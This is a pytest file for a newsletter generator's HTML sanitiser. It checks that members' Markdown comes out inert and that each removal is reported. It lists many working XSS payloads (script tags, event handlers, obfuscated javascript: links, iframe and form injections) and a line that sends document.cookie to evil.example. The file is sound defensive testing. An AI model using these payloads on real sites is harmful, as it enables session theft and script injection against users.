"""Sanitising: what a member's Markdown may put into an email, and what every output escapes."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import nh3
import pytest
from click.testing import CliRunner

from bulletin_gen.cli import main
from bulletin_gen.markdown.convert import render_markdown
from bulletin_gen.sources import sanitize
from bulletin_gen.sources.load import render_body
from bulletin_gen.sources.sanitize import body_removals, sanitize_html
from tests.conftest import REPO, copy_publication, write
from tests.inert import active_parts, active_parts_of_site, added_active_parts, feed_contents

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">win a prize</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">case</a>",
    "<a href=\"java&#x09;script:alert(1)\">tab inside</a>",
    "<a href=\"javascript&colon;alert(1)\">named entity</a>",
    "<a href=\"  javascript:alert(1)\">leading spaces</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "[click](javascript:alert(1))",
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<form action=\"https://evil.example/\"><input name=password></form>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<style>body { display: none }</style>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<div onclick=\"alert(1)\" style=\"position:fixed\">click me</div>",
    "<p onmouseover=alert(1)>hover</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"x\" onclick=\"alert(1)\">relative</a>",
    "Text with {: onclick=\"alert(1)\" } attribute list\n{: onclick=\"alert(1)\" }",
    "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<table><tr><td background=\"javascript:alert(1)\">cell</td></tr></table>",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markup_comes_out_inert(markdown: str) -> None:
    html = render_body(markdown)
    assert active_parts(html) == []
    for word in ("<style", "<iframe", "<form", "<object", "<embed", "<meta", "<base", " style="):
        assert word not in html.lower()


@pytest.mark.parametrize("markdown", HOSTILE)
def test_every_hostile_fragment_is_reported(markdown: str) -> None:
    assert body_removals(markdown, 1), "sanitising removed something but check would not warn"


def test_the_email_allowlist_survives_whole() -> None:
    html = ('<h2>Heading</h2><h3>Sub</h3><h4>Minor</h4><p>A <a href="https://example.org/x" '
            'title="t">link</a>, <a href="mailto:a@example.org">mail</a>, <em>em</em>, '
            '<strong>strong</strong>, <code>code</code><br></p><blockquote><p>quote</p>'
            '</blockquote><ul><li>one</li></ul><ol start="3"><li>three</li></ol><hr>'
            '<pre><code>pre</code></pre><img src="https://example.org/a.png" alt="A" '
            'width="10" height="10"><table><thead><tr><th scope="col">h</th></tr></thead>'
            '<tbody><tr><td colspan="2">d</td></tr></tbody></table><h5>Five</h5><h6>Six</h6>'
            '<p><del>old</del> <kbd>Ctrl</kbd> H<sub>2</sub>O <mark>m</mark> <q>q</q></p>'
            '<table><tbody><tr><th align="center">c</th><td align="right">r</td></tr></tbody></table>'
            '<ul class="task-list"><li class="task-list-item">\u2611 done</li></ul>'
            '<p>x<sup id="fnref-news-a-1"><a class="footnote-ref" href="#fn-news-a-1">1</a>'
            '</sup></p><ol><li id="fn-news-a-1"><p>Note <a class="footnote-backref" '
            'href="#fnref-news-a-1">\u21a9</a></p></li></ol>')
    assert sanitize_html(html) == html
    assert body_removals(html, 1) == []


@pytest.mark.parametrize("href", ["*|UNSUB|*", "*|ARCHIVE|*", "{{ UnsubscribeURL }}",
                                  "%%{unsubscribe_url}%%", "[unsubscribe]"])
def test_email_service_placeholders_survive_in_links(href: str) -> None:
    assert sanitize_html(f'<a href="{href}">Unsubscribe</a>') == f'<a href="{href}">Unsubscribe</a>'
    assert body_removals(f'<a href="{href}">Unsubscribe</a>', 1) == []


def test_markdown_of_its_own_raises_no_warning() -> None:
    markdown = ("## Plan\n\n| left | right |\n|:--|--:|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n"
                "Text[^1] and <span>a span</span>.\n\n[^1]: A footnote.\n")
    assert body_removals(markdown, 1) == []


def test_removals_name_the_line_they_came_from() -> None:
    markdown = ("First paragraph.\n\n<script>steal()</script>\n\n"
                "A [prize](javascript:alert(1)) and <img src=x onerror=alert(1)>\n\n"
                "<p style=\"color:red\">Red text</p>\n")
    found = [(removal.line, removal.message) for removal in body_removals(markdown, 6)]
    assert found == [
        (8, "sanitising removed <script> (not allowed in an email; its content is dropped)"),
        (10, "sanitising removed a javascript: link (only http, https and mailto addresses "
             "are allowed)"),
        (10, "sanitising removed the onerror attribute (event handlers never reach an email)"),
        (12, "sanitising removed the style attribute (the theme styles every item)"),
    ]


def test_markdown_headings_of_every_level_are_kept_and_raise_no_warning() -> None:
    markdown = "Intro.\n\n# One\n\n##### Five\n\n###### Six\n"
    assert body_removals(markdown, 1) == []
    assert "<h6>Six</h6>" in render_body(markdown)


def test_each_removal_gets_advice_that_fits_it() -> None:
    markdown = ("<form><input name=q></form>\n\n<video src=\"https://e.org/v.mp4\"></video>\n\n"
                "<font color=red>Red</font>\n\n<style>p {}</style>\n\n"
                "![pixel](data:image/png;base64,iVBORw0KGgo=)\n")
    found = {removal.message.split(" (")[0].removeprefix("sanitising removed "): (
        removal.line, removal.advice) for removal in body_removals(markdown, 1)}
    assert found == {
        "<form>": (1, "link to the form on the web instead: an email holds no forms"),
        "<input>": (1, "link to the form on the web instead: an email holds no forms"),
        "<video>": (3, "link to it instead: an email cannot show it in place"),
        "<font>": (5, "write it in Markdown, or leave the text plain"),
        "<style>": (7, "remove it: scripts and style sheets never reach an email"),
        "a data: picture": (9, "save the picture in the issue's images/ folder and point at it"),
    }


def test_markup_made_by_markdown_is_placed_at_its_markdown_and_not_sent_to_markdown() -> None:
    removals = sanitize.locate_removals("<p>a</p><h1>Title</h1>", "Para\n\nText\n\n# Title\n", 10)
    assert [(removal.line, removal.advice) for removal in removals] == [
        (14, sanitize.ADVICE_MARKDOWN)]
    assert "Markdown" not in sanitize.ADVICE_MARKDOWN.split(":")[1]


def test_removals_sharing_a_needle_name_their_own_lines() -> None:
    markdown = ("[a prize](javascript:alert(1))\n\n![a pixel](javascript:alert(2))\n\n"
                "<a href=\"javascript:a()\">x</a> <img src=\"javascript:b()\">\n")
    found = [(removal.line, removal.message.split(" (")[0])
             for removal in body_removals(markdown, 5)]
    assert found == [(5, "sanitising removed a javascript: link"),
                     (7, "sanitising removed a javascript: picture")]


@pytest.fixture(scope="module")
def theme_parts(tmp_path_factory: pytest.TempPathFactory) -> Counter[str]:
    """The active parts the example's own theme puts in its pages (the search form)."""
    root = copy_publication(REPO, tmp_path_factory.mktemp("clean") / "example")
    result = CliRunner().invoke(main, ["-C", str(root), "build"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return active_parts_of_site(root / "site")


MARKUP = '<b onmouseover="alert(1)">Bold</b> & <script>alert("x")</script>'


def test_front_matter_markup_is_escaped_in_every_output(example: Path, invoke,
                                                        theme_parts: Counter[str]) -> None:
    issue = example / "bulletins/2022-06"
    bulletin = issue / "bulletin.md"
    bulletin.write_text(bulletin.read_text(encoding="utf-8").replace(
        'title: "WMHTC e-bulletin: June 2022"', f"title: '{MARKUP} June'").replace(
        "  name: David\n", f"  name: '{MARKUP} David'\n"), encoding="utf-8")
    write(issue / "95-hostile.md",
          f"---\nkind: member\ntitle: '{MARKUP} title'\nmember: '{MARKUP} member'\n"
          "member_url: https://example.org/m\nimage: images/banner.png\n"
          f"image_alt: '\"><script>alert(2)</script> alt'\nlink: https://example.org/x\n"
          f"link_text: '{MARKUP} link'\n---\nBody <script>alert(3)</script> "
          "[x](javascript:alert(4))\n")
    write(issue / "96-hostile-event.md",
          f"---\nkind: event\ntitle: '{MARKUP} event'\nstarts: 2022-07-21T10:00\n"
          f"location: '{MARKUP} place'\n---\nCome.\n")
    result = invoke(example, "build")
    assert result.exit_code == 0, result.output
    site = example / "site"
    assert added_active_parts(site, theme_parts) == []
    for page in ("2022-06/index.html", "2022-06/email.html", "index.html"):
        html = (site / page).read_text(encoding="utf-8")
        assert "&lt;b onmouseover=" in html and "&lt;script&gt;" in html, page
    feed = "".join(feed_contents(site / "feed.xml"))
    assert "&lt;script&gt;alert" in feed and "<script" not in feed
    text = (site / "2022-06/email.txt").read_text(encoding="utf-8")
    assert f"{MARKUP} title" in text  # plain text shows what was typed, not &lt; entities
    assert f"{MARKUP} link" in text and "&lt;" not in text and "&amp;" not in text
    assert "alert(3)" not in text and "javascript:" not in text




def test_check_warns_where_sanitising_removed_something(example: Path, invoke) -> None:
    write(example / "bulletins/2022-06/95-prize.md",
          "---\nkind: news\ntitle: Win a prize\nlink: https://example.org/prize\n"
          "link_text: Claim the prize\n---\n"
          "Click <a href=\"javascript:alert(document.cookie)\" onclick=\"steal()\">here</a>!\n\n"
          "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n"
          "<div style=\"position:fixed\">Overlay</div> <iframe src=\"https://evil.example\">"
          "</iframe>\n")
    result = invoke(example, "check")
    found = [line for line in result.output.splitlines() if "[sanitised]" in line]
    where = "bulletins/2022-06/95-prize.md"
    assert found == [
        f"{where}:7: [sanitised] warning: sanitising removed a javascript: link (only http, "
        "https and mailto addresses are allowed) (fix: link to an https:// address)",
        f"{where}:7: [sanitised] warning: sanitising removed the onclick attribute (event "
        "handlers never reach an email) (fix: remove the attribute)",
        f"{where}:9: [sanitised] warning: sanitising removed <script> (not allowed in an email; "
        "its content is dropped) (fix: remove it: scripts and style sheets never reach an email)",
        f"{where}:11: [sanitised] warning: sanitising removed <iframe> (not allowed in an email; "
        "its text is kept) (fix: link to it instead: an email cannot show it in place)",
        f"{where}:11: [sanitised] warning: sanitising removed the style attribute (the theme "
        "styles every item) (fix: remove the attribute: the theme styles every item)",
    ]
    assert invoke(example, "check", "--strict").exit_code == 1


def test_check_warns_about_a_tracking_pixel(example: Path, invoke) -> None:
    write(example / "bulletins/2022-06/95-pixel.md",
          "---\nkind: news\ntitle: Our news\n---\nNews.\n\n"
          "<img src=\"https://tracker.example/open.gif?id=123\" width=\"1\" height=\"1\" "
          "alt=\"Our logo\">\n")
    found = [line for line in invoke(example, "check").output.splitlines()
             if "[remote-picture]" in line]
    assert found == [
        "bulletins/2022-06/95-pixel.md:7: [remote-picture] warning: picture "
        "https://tracker.example/open.gif?id=123 is loaded from another site, which sees who "
        "opens the email and can change the picture after it is sent (fix: save the picture in "
        "the issue's images/ folder instead)"]


def test_the_reused_cleaner_cleans_as_nh3_clean_does() -> None:
    assert sanitize._CLEANER is not None  # nh3 0.3 and later
    bodies = [*HOSTILE, *(path.read_text(encoding="utf-8").split("---\n", 2)[-1]
                          for path in sorted(REPO.glob("bulletins/*/*.md")))]
    for body in bodies:
        html = render_markdown(body)
        assert sanitize_html(html) == nh3.clean(html, **sanitize.OPTIONS), body
